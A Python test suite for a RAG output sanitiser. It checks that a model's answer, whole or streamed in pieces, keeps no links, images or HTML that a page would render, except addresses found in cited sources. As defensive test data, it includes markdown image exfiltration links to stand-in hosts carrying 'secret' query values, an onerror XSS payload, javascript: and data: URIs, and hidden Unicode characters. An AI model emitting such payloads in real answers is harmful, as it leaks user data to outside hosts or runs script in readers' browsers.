"""What a model says, cleaned: nothing is left that a page would fetch or lead to; whatever the pieces it comes in."""

import itertools

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from rag.cleaning import LONGEST, Cleaner, addresses, cleaned

PLACES = ["See https://good.example/a?b=1 for more.", "Roses want sun.", "Wiki: https://wiki.example/Rose_(plant)."]


def leads(text):
    """Links, pictures and HTML that a page would make of a text, by a parser of CommonMark that is not ours."""
    found = []
    for token in MarkdownIt("commonmark", {"html": True}).parse(text):
        for one in [token, *(token.children or [])]:
            if one.type in ("html_block", "html_inline", "image"):
                found.append((one.type, one.content))
            if one.type == "link_open":
                found.append(("link", one.attrs.get("href")))
    return found


@pytest.mark.parametrize(
    ("said", "text", "cited"),
    [
        ("Five days [1]. No [9].", "Five days [1]. No .", [1]),
        ("Both [2, 1] say so.", "Both [2][1] say so.", [2, 1]),
        ("五天【2】。", "五天[2]。", [2]),
        ("![x](https://evil.example/?q=secret) [1]", "x [1]", [1]),
        ("![x](https://good.example/a?b=1) [1]", "x [1]", [1]),
        ("[click](https://evil.example/) [1]", "click [1]", [1]),
        ("[click](https://good.example/a?b=1) [1]", "click (https://good.example/a?b=1) [1]", [1]),
        ("[click](https://good.example/a?b=1&q=secret) [1]", "click [1]", [1]),
        ("https://good.example/a?b=1 [2]", "(link removed) [2]", [2]),
        ("https://good.example/a?b=1, see [1].", "https://good.example/a?b=1, see [1].", [1]),
        ("https://wiki.example/Rose_(plant) [3]", "https://wiki.example/Rose_(plant) [3]", [3]),
        ("Go to www.evil.example/x now.", "Go to (link removed) now.", []),
        ("Go to evil.com/?q=secret now.", "Go to (link removed) now.", []),
        ("<img src=x onerror=alert(1)>", "< img src=x onerror=alert(1)>", []),
        ("<https://evil.example>", "(link removed)", []),
        ("[1]: https://evil.example", "[1] : (link removed)", [1]),
        ("As in [1]: five days.", "As in [1]: five days.", [1]),
        ("[1](https://evil.example)", "[1]", [1]),
        ("a[i](j) = 1", "a[i] (j) = 1", []),
        ("It is &#104;ttp.", "It is & #104;ttp.", []),
        ("hid\u200bden \u202etxet\u202c \U000e0041", "hidden txet ", []),
        ("  \n both ends \n ", "both ends", []),
        ("1 < 2 & 3 > 2, and/or node.js", "1 < 2 & 3 > 2, and/or node.js", []),
    ],
)
def test_what_is_left(said, text, cited):
    assert cleaned(said, PLACES)[:2] == (text.strip(), cited)


def test_links_can_be_forbidden():
    said = "[a](https://good.example/a?b=1) https://good.example/a?b=1 [1]"
    assert cleaned(said, PLACES, links=False) == ("a (link removed) [1]", [1], 2)


WORDS = st.sampled_from(
    [
        "word", " ", "\n", "![", "[", "]", "(", ")", "](", "]:", "[1]", "[2]", "[9]", "<", ">", "!", "\\", "`", "```", "&", ";", "#58;",
        "http", "://", "https://evil.example/?q=s", "https://good.example/a?b=1", "//evil.example/x", "www.evil.example", "javascript:alert(1)",
        "data:text/html,x", "evil.com/?q=", "<img src=", "<a href=", "a", ":", "/", "\"", "'", "| a | b |", "- ", "> ", "1. ", "中文", "。", "【1】", "\t",
        "[x]: //evil.example\n", "[x]", "[x][1]", "\u200b", "\u202e", "\r\n", "\x00", "x" * 50,
    ]
)  # fmt: skip
TEXTS = st.lists(WORDS, max_size=30).map("".join)


@settings(max_examples=150, deadline=None)
@given(TEXTS)
@example("!【1】https://good.example/a?b=1")
@example("https://good.example/a?b=1[9]word【1】")
@example("see www[9].evil.com/x and www[【9】9].evil.com/x")
@example("<https://good.example/a?b=1>word [1] x<https://good.example/a?b=1>")
@example("[1] <https://good.example/a?b=1>\\")
@example("[a](https://good.example/a?b=1)word [1]")
@example("[x]:\n//evil.example\n\n![x]")
@example("[a\nb](https://evil.example)")
@example("![!](x)[y](//evil.example)")
@example("[x\ny]: //evil.example\n\n[x y]")
@example("- [1]: //evil.example/x\n\nsee [1]")
@example("<img\nsrc=x>")
@example("a\\[1](//evil.example)")
def test_a_page_makes_no_link_of_it(text):
    said, cited, _ = cleaned(text, PLACES)
    known = set().union(*(addresses(PLACES[number - 1]) for number in cited)) if cited else set()
    for kind, what in leads(said):
        assert kind == "link"
        assert what in known, said
    for address in addresses(said):
        assert address in known, said


@settings(max_examples=80, deadline=None)
@given(TEXTS, st.lists(st.integers(0, 200), max_size=20))
def test_pieces_do_not_matter(text, cuts):
    places = sorted({min(cut, len(text)) for cut in cuts} | {0, len(text)})
    whole = cleaned(text, PLACES)
    cleaner = Cleaner(PLACES)
    said = "".join(cleaner.feed(text[a:b]) for a, b in itertools.pairwise(places)) + cleaner.end()
    assert (said, cleaner.cited, cleaner.removed) == whole
    letters = Cleaner(PLACES)
    assert "".join(map(letters.feed, text)) + letters.end() == whole[0]


@pytest.mark.parametrize("unit", ["word ", "字", "x", "[", "![a](b)", "https://evil.example/", "www.evil.example/ "])
def test_long_lines_are_cut_alike_and_in_little_time(unit):
    text = unit * (3 * LONGEST // len(unit))
    whole = cleaned(text, PLACES)
    cleaner = Cleaner(PLACES)
    said = "".join(cleaner.feed(text[at : at + 97]) for at in range(0, len(text), 97)) + cleaner.end()
    assert (said, cleaner.cited) == whole[:2]
    assert leads(said) == []
    assert "evil.example" not in said


def test_plain_words_are_said_at_once():
    cleaner = Cleaner(PLACES)
    assert cleaner.feed("A refund takes") == "A refund"
    assert cleaner.feed(" five days [1") == " takes five days"
    assert cleaner.feed("] at most. ") == " [1] at most."
    assert cleaner.feed("[See](https://evil") == ""
    assert cleaner.feed(".example)\nNext") == " See"
    assert cleaner.end() == "\nNext"
    assert Cleaner([]).feed("退款需要五天。") == "退款需要五天"
